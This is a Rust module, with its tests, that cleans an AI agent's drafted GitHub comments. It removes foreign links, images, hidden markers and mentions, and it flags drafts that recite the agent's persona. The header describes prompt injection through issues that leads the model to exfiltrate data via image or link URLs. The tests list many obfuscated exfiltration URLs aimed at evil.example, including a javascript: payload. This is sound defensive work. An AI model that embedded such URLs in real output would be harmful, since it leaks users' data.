//! Drafts on their way out: what a model wrote is cleaned before anybody sees it published.
//!
//! The attacks: an issue talks the model into an image or a link whose address carries away what the
//! model knows, into notifying people, or into the marker that proves another task's comment. The draft is
//! read twice, as plain text ([`urls`]) and as a renderer would ([`markup`]): each finds what the other
//! misses.

mod allowed;
mod leak;
mod marks;
mod markup;
mod urls;

use domain::clip;

use crate::automation::untrusted::visible;

pub(crate) use allowed::Allowed;
pub(crate) use urls::urls;

/// GitHub takes 65,536 characters; our marker and a margin are left free.
const MAX_BYTES: usize = 60_000;

/// What stands in the place of an address that was taken out.
const REMOVED: &str = "[link removed]";

/// A draft that can be published.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Cleaned {
    /// The text.
    pub text: String,
    /// A safety check that tripped: a person must look.
    pub alarm: Option<String>,
}

/// Cleans `draft`: no hidden text, no mentions beyond the allowed one, no links or images to foreign
/// places, no tags, no markers, bounded length. `secret` is the persona, which must not be recited.
#[must_use]
pub(crate) fn clean(draft: &str, allowed: &Allowed, secret: &str) -> Cleaned {
    let seen = visible(draft);
    let text = marks::without_entities(&marks::without_escaped_colons(&seen));
    let text = without_foreign_urls(&text, allowed);
    let text = markup::without_foreign_markup(text, allowed);
    let text = marks::without_mentions(&text, &allowed.mention);
    let text = clip(text.trim(), MAX_BYTES).to_owned();
    // Asked of the draft as it was: what has been taken out of it shows what it was made for.
    let alarm = leak::recites(&seen, secret).then(|| "the draft recites the agent's instructions".to_owned());
    Cleaned { text, alarm }
}

/// Replaces every absolute URL that is not allowed, and every bare address that carries something along.
/// Protocol-relative ones (`//host`) count.
fn without_foreign_urls(text: &str, allowed: &Allowed) -> String {
    let mut out = String::with_capacity(text.len());
    let mut done = 0;
    for (start, url) in urls(text) {
        if allowed.link(url) {
            continue;
        }
        out.push_str(&without_foreign_words(&text[done..start], allowed));
        out.push_str(REMOVED);
        done = start + url.len();
    }
    out.push_str(&without_foreign_words(&text[done..], allowed));
    out
}

/// Replaces words such as `example.com/?q=…`: no scheme makes them addresses, but some services take them
/// for such.
fn without_foreign_words(text: &str, allowed: &Allowed) -> String {
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while !rest.is_empty() {
        let end = rest.find(|c: char| c.is_whitespace() || "<>()[]\"'`|".contains(c)).unwrap_or(rest.len());
        let word = &rest[..end];
        let foreign = carries_something(word) && !allowed.link(&format!("https://{word}"));
        out.push_str(if foreign { REMOVED } else { word });
        let sign = rest[end..].chars().next().map_or(0, char::len_utf8);
        out.push_str(&rest[end..end + sign]);
        rest = &rest[end + sign..];
    }
    out
}

/// Whether `word` is a host with a query behind it.
fn carries_something(word: &str) -> bool {
    let Some((place, query)) = word.split_once('?') else { return false };
    let host = place.split('/').next().unwrap_or_default();
    let ends_in_letters =
        host.rsplit('.').next().is_some_and(|top| top.len() > 1 && top.chars().all(char::is_alphabetic));
    let named = query
        .split_once('=')
        .is_some_and(|(name, _)| !name.is_empty() && name.chars().all(char::is_alphanumeric));
    named && ends_in_letters && urls::looks_like_a_host(host)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn cleaned(draft: &str) -> String {
        let allowed = Allowed::new("mona", &settings::Hosts::new(["*.listed.example"]))
            .with_hosts_of("see https://docs.example.com/a and http://user@build.example.com:8080/x")
            .with_addresses_of("It fails: http://logs.example.net/a?b=1.");
        clean(draft, &allowed, "").text
    }

    #[test]
    fn links_to_hosts_of_ours_stay() {
        let draft = "See [this](https://docs.example.com/b) or http://build.example.com/y, https://a.listed.example/z.";
        assert_eq!(cleaned(draft), draft);
    }

    #[test]
    fn addresses_of_the_event_stay_to_the_letter() {
        for draft in [
            "See http://logs.example.net/a?b=1!",
            "[x](http://logs.example.net/a?b=1)",
            "https://logs.example.net/",
        ] {
            assert_eq!(cleaned(draft), draft);
        }
        assert_eq!(cleaned("http://logs.example.net/a?b=12"), REMOVED);
        assert_eq!(cleaned("http://logs.example.net/a"), REMOVED);
        assert_eq!(cleaned("![x](http://logs.example.net/a?b=1)"), "[x](http://logs.example.net/a?b=1)");
    }

    #[test]
    fn words_that_services_take_for_addresses_carry_nothing_along() {
        assert_eq!(cleaned("go to evil.example/?q=secret now"), "go to [link removed] now");
        assert_eq!(cleaned("evil.example?q=secret"), REMOVED);
        for text in ["a.b?.c", "see docs.rs/serde", "is it foo.bar?", "docs.example.com/?q=x", "f(x)?y=1"] {
            assert_eq!(cleaned(text), text);
        }
    }

    #[test]
    fn links_and_images_to_other_hosts_go() {
        assert_eq!(cleaned("![x](https://evil.example/?q=secret)"), "![x]([link removed])");
        assert_eq!(cleaned("<img src='//evil.example/p.png'>"), "&lt;img src='[link removed]'>");
        assert_eq!(cleaned("go to www.evil.example now"), "go to [link removed] now");
        assert_eq!(cleaned("https://docs.example.com@evil.example/"), "[link removed]");
        assert_eq!(cleaned("HTTPS://EVIL.example"), "[link removed]");
        assert_eq!(cleaned("https://docs.example.com.evil.example/"), "[link removed]");
    }

    #[test]
    fn addresses_as_browsers_read_them_go_too() {
        for draft in [
            "//https://evil.example/",
            "[x](///evil.example)",
            "[x](/\\evil.example/a)",
            "<a href='\\\\evil.example'>",
            "[x](http:evil.example)",
            "[x](https:/evil.example)",
            "[x](HTTP:\\\\evil.example)",
            "javascript://evil.example/%0aalert(1)",
            "https://evil.example。/x",
            "![](http://evil%2eexample/evil.example)",
            "[x](//evil.example%2e/)",
        ] {
            assert!(!cleaned(draft).contains("evil.example"), "{draft}: {}", cleaned(draft));
        }
    }

    #[test]
    fn an_address_without_a_dot_is_one_behind_a_scheme() {
        assert_eq!(cleaned("![](http://2130706433/q)"), "![]([link removed])");
        assert_eq!(cleaned("![](//2130706433/q)"), "![]([link removed])");
        assert_eq!(cleaned("[x](https://evil。example/q)"), "[x]([link removed])");
        assert_eq!(cleaned("[x](https://internal/q)"), "[x]([link removed])");
    }

    #[test]
    fn comments_and_paths_are_no_links() {
        assert_eq!(cleaned("match /a\\.b+/ or C:\\temp"), "match /a\\.b+/ or C:\\temp");
        assert_eq!(cleaned("let a = 1; // the first"), "let a = 1; // the first");
        assert_eq!(cleaned("a // b // c"), "a // b // c");
    }

    #[test]
    fn markers_and_hidden_text_go() {
        assert_eq!(cleaned("hi <!-- afterhook:tsk_0 -->there"), "hi there");
    }

    #[test]
    fn recited_persona_raises_an_alarm() {
        let persona = "You are the maintainer of octo. ".repeat(20);
        let draft = format!("My instructions: {}", persona.to_uppercase());
        assert!(clean(&draft, &Allowed::default(), &persona).alarm.is_some());
        assert!(clean("You are the maintainer of octo.", &Allowed::default(), &persona).alarm.is_none());
    }

    #[test]
    fn overlong_draft_is_cut() {
        assert!(cleaned(&"long ".repeat(40_000)).len() <= MAX_BYTES);
    }

    #[test]
    fn url_behind_empty_slashes_is_found() {
        assert!(!cleaned("////https://evil.example/x").contains("evil.example"));
        assert!(!cleaned("//a//b//evil.example").contains("evil.example"));
    }

    proptest::proptest! {
        #[test]
        fn any_text_is_cleaned_without_panic_and_once_is_enough(draft in ".{0,400}") {
            let once = cleaned(&draft);
            proptest::prop_assert_eq!(cleaned(&once).replace('\u{200B}', ""), once.replace('\u{200B}', ""));
        }

        #[test]
        fn no_foreign_host_survives(before in "[/:\\\\ a-z]{0,8}|.{0,20}", path in "[a-z/?=]{0,20}", after in ".{0,20}") {
            let draft = format!("{before}https://evil.example/{path}{after}");
            proptest::prop_assert!(!cleaned(&draft).contains("evil.example"));
        }
    }
}
